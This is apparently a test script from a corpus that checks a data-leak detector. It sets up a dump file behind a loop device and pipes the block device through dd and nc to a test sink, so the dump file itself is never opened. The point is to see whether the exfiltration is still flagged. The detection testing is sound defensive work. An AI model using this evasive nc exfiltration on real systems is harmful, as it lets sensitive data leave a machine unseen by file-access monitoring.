#!/bin/bash
# B-loopdev: the dump is read through a loop device.
# flow: a kernel thread reads the backing file; dd reads the block device and never opens the dump.
# tools: losetup dd nc
# expect: sent counted port critical
. "$CORPUS/lib.sh"
mkdump
! grep -q '^loop ' /proc/modules || skip "loop is a module: its layout is not in the kernel's BTF"
device=$(losetup -rf --show "$D") || skip "no loop device"
undo "losetup -d $device"
sink tcp
dd if="$device" bs=64k 2>/dev/null | nc -N "$SINK" "$PORT"
sunk
